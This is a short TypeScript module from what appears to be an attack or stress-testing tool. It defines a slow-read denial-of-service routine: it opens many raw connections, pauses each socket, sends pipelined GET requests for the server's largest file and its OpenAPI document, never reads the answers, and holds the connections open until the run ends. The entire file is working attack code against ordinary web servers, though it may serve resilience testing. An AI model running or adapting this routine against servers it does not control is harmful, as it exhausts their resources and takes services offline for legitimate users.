import { untilOver, type AttackContext } from './attack.ts';
import { largestFile } from './routes.ts';
import { headOf, openRaw } from './sockets.ts';

const PATHS = [largestFile(), '/api/openapi.json'];

/** Connections that request a large file and a large answer, and read nothing. */
export async function unreadAnswers(context: AttackContext): Promise<void> {
  const requests = PATHS.map((path) => headOf(`GET ${path}`, ['accept: text/html'])).join('');
  const open = [];
  for (let index = 0; index < context.connections && !context.over.aborted; index += 1) {
    const one = await openRaw(context);
    one?.socket.pause();
    one?.socket.write(requests);
    if (one) open.push(one);
  }
  await untilOver(context);
  for (const one of open) one.cut();
}
